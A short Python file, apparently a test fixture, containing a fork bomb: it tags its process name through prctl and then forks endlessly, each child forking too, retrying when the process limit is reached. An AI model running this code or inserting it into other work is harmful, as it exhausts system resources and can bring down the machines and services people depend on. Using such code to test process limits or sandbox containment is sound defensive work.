"""Forks without end; every child forks too."""
import ctypes
import os
import time


def main(marker, **_):
    ctypes.CDLL(None).prctl(15, marker.encode(), 0, 0, 0)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)  # at the process limit: keep trying, gently
